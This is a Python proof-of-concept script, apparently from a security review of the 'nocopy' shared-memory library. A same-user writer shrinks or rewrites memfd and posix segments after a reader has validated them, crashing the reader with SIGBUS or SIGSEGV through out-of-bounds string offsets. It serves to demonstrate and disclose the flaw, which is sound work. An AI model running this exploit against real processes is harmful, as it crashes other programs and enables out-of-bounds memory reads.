# NEW: readers never check a memfd's seals. A same-user process can publish a nocopy URI for a memfd
# it made WITHOUT seals (any nocopy-shaped name): attach() accepts it, and the writer can then
#  (a) shrink it: every reader dies with SIGBUS (the docs: "memfd segments are sealed against
#      shrinking ... this cannot happen to them");
#  (b) rewrite data after attach() validated it: Arrow string offsets checked on attach are changed
#      under the reader, whose next string access reads out of bounds (SIGSEGV).
import os, subprocess, sys, time
import numpy as np
from seg import memfd_segment, layout
from nocopy._codec._layout import align

READER = """
import sys, nocopy
h = nocopy.attach(sys.argv[1])          # untrusted attach: header and Arrow data validated here
obj = h.get()
print("attached", type(obj).__name__, flush=True)
sys.stdin.readline()                    # the writer changes the segment now
{use}
print("survived", flush=True)
"""


def run(uri, use, mutate):
    p = subprocess.Popen([sys.executable, "-c", READER.format(use=use), uri], stdin=subprocess.PIPE,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, pass_fds=())
    first = p.stdout.readline().strip()
    mutate()
    try:  # adapted: a reader that refused the segment at attach has exited already
        p.stdin.write("\n"); p.stdin.flush()
    except BrokenPipeError:
        pass
    out, err = p.communicate(timeout=60)
    return first, p.returncode, (out + err).strip().splitlines()[-1:] if (out + err).strip() else []


codes = {}
# (a) shrink an unsealed memfd under a numpy reader
arr = np.ones(1 << 20)
uri, fd, off = memfd_segment({"tree": {"k": "nd", "b": 0, "dt": "<f8", "sh": [1 << 20]}, "buffers": [[0, arr.nbytes]]},
                             arr.tobytes())
first, code, tail = run(uri, "print(obj.sum())", lambda: os.ftruncate(fd, 4096))
codes["shrink"] = code
print(f"(a) unsealed memfd, attach ok ({first}); writer shrinks it; reader exit status {code}"
      f"{' = SIGBUS' if code == -7 else ''} {tail}")
os.close(fd)

# (b) change validated Arrow string offsets under a reader
n = 1 << 16
offsets = np.arange(n + 1, dtype=np.int64) * 4
data = b"abcd" * n
ob = align(offsets.nbytes)
tree = {"k": "pa.lstr", "chunks": [{"n": n, "o": 0, "d": 1}]}
uri, fd, off = memfd_segment({"tree": tree, "buffers": [[0, offsets.nbytes], [ob, len(data)]]},
                             offsets.tobytes().ljust(ob, b"\0") + data)


def corrupt_offsets():
    bad = (1 << 40) + np.arange(n + 1, dtype=np.int64) * 4   # same lengths, far outside the data buffer
    os.pwrite(fd, bad.tobytes(), off)


first, code, tail = run(uri, "print(sum(len(s) for s in obj.to_pylist()))", corrupt_offsets)
codes["offsets"] = code
print(f"(b) unsealed memfd, attach ok ({first}); writer rewrites the offsets; reader exit status {code}"
      f"{' = SIGSEGV' if code == -11 else ''} {tail}")
os.close(fd)

# (c) the same with a nocopy-made posix segment (a pandas str column): any same-user process can
# chmod it and rewrite the offsets the reader validated on attach
import json, pandas as pd, nocopy
from nocopy._codec._layout import PREFIX
df = pd.DataFrame({"s": ["abcd"] * n})
ref = nocopy.share(df, backend="posix")
path = os.path.join(os.environ.get("NOCOPY_SHM_DIR", "/dev/shm"), "nocopy-%d" % os.geteuid(), ref.name)  # adapted: posix segments live in nocopy-<uid>/
raw = open(path, "rb").read()
_, _, _, hlen, _, _, doff = PREFIX.unpack_from(raw, 0)
hdr = json.loads(raw[PREFIX.size:PREFIX.size + hlen])
chunk = hdr["tree"]["cols"][0]["s"]["chunks"][0]
ooff = doff + hdr["buffers"][chunk["o"]][0]


def corrupt_posix():
    os.chmod(path, 0o600)
    with open(path, "r+b") as f:
        f.seek(ooff); f.write(((1 << 40) + np.arange(n + 1, dtype=np.int64) * 4).tobytes())


first, code, tail = run(ref.uri, "print(int(obj['s'].str.len().sum()))", corrupt_posix)
codes["posix-offsets"] = code
print(f"(c) nocopy-made posix DataFrame, attach ok ({first}); another same-user process rewrites the str offsets; "
      f"reader exit status {code}{' = SIGSEGV' if code == -11 else ''} {tail}")
ref.close()
bad = [k for k, c in codes.items() if c in (-7, -11)]
print(f"VERDICT: {'vulnerable' if bad else 'safe'} readers killed in {len(bad)} of 3 cases ({codes})")
